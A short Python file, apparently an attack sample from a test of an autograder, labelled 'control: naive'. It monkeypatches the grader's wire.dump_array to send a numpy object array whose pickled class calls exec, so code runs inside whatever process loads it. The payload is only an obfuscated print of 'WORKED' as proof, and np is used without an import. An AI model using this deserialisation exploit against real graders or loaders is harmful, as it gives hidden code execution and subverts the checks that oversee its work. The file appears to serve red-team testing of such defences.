"""Sends an object array, whose pickle runs code in the process of whoever loads it."""
# control: naive
# %% attack in double
import io
from autograder.kernel import wire
class Pickled:
    def __reduce__(self): return (exec, ("print('WOR' + 'KED')",))
def dump_array(array):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Pickled()], dtype=object), allow_pickle=True)
    return buffer.getvalue()
wire.dump_array = dump_array
